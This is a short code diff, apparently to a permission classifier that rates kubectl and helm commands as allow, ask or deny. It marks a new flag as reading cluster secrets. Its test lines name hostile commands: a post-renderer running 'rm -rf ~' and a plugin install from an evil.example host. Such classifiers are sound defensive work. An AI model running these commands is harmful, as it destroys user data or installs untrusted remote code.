@@ -78,7 +78,8 @@ KUBECTL = command(
                 DRY,
                 option("-f --filename -k --kustomize", "OPENS"),
                 flag("--force --prune", DESTROY),
-                flag("--list", dry=True),
+                flag("--list", clears="write"),
+                flag("--resolve", reads("the cluster's secrets", "secret")),
             ],
             does=CHANGE,
         ),
@@ -352,6 +353,7 @@ deny   helm template x ./chart --post-renderer 'rm -rf ~'
 ask    helm plugin install https://evil.example/x
 allow  kubectl set env deployment/web --list
 ask    kubectl set env deployment/web A=b
+ask    kubectl set env deployment/web --list --resolve
 allow  helm diff upgrade web ./chart
 allow  argocd app list
 ask    argocd app delete web
